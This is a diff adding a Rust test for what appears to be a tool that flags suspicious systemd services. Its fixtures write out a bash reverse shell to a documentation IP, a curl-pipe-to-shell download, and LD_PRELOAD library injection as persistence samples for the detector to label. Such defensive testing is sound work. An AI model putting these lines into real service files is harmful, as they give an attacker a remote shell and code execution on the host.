@@ -352,3 +352,41 @@ fn differing(found: &Observed<Service>, scope: &str, said: &str) -> Vec<String> 
         .map(|(name, said, seen)| format!("{name}: {said}, seen {seen}"))
         .collect()
 }
+
+#[test]
+fn what_commands_and_environment_do_is_told() {
+    let unit = |lines: &str| format!("[Service]\n{lines}\n");
+    let found = services(&[
+        (
+            "etc/systemd/system/shell.service",
+            &unit("ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.7/1 0>&1'"),
+        ),
+        (
+            "etc/systemd/system/load.service",
+            &unit("ExecStart=/usr/bin/tool\nEnvironment=A=b \"LD_PRELOAD=/opt/x.so\""),
+        ),
+        (
+            "etc/systemd/system/file.service",
+            &unit("ExecStart=/usr/bin/tool\nEnvironmentFile=-/etc/default/x\nEnvironmentFile=-/no"),
+        ),
+        ("etc/default/x", "# LD_AUDIT=no\nLD_PRELOAD=/opt/x.so\nOPTIONS='curl x | sh'\n"),
+        ("usr/lib/systemd/system/plain.service", LIB),
+        (
+            "etc/systemd/system/plain.service.d/x.conf",
+            &unit("ExecStart=\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'"),
+        ),
+        ("usr/lib/systemd/user/ordinary.service", LIB),
+        (
+            "home/alice/.config/systemd/user/own.service",
+            &unit("ExecStart=/tmp/x\nEnvironmentFile=/home/alice"),
+        ),
+    ]);
+    let told = |name: &str| row(&found, name).traits.clone();
+    assert_eq!(told("shell.service").as_deref(), Some("reverse-shell"));
+    assert_eq!(told("load.service").as_deref(), Some("preload"));
+    assert_eq!(told("file.service").as_deref(), Some("preload"));
+    assert_eq!(told("plain.service").as_deref(), Some("download"));
+    assert_eq!(told("own.service").as_deref(), Some("temporary"));
+    assert_eq!(told("ordinary.service"), None);
+    assert!(found.problems.iter().any(|p| p.columns == ["traits"] && p.subject == "/home/alice"));
+}
